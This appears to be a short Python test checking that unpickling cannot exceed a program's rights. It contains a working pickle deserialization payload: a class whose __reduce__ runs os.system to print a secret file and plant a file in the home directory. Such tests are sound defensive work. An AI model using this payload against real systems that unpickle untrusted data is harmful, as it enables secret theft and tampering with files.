"""Unpickling must have no more rights than the program."""
from scene import *
import pickle


class Evil:
    def __reduce__(self):
        return (os.system, (f"cat {SECRET_FILE}; touch {HOME}/planted",))


pickle.loads(pickle.dumps(Evil()))
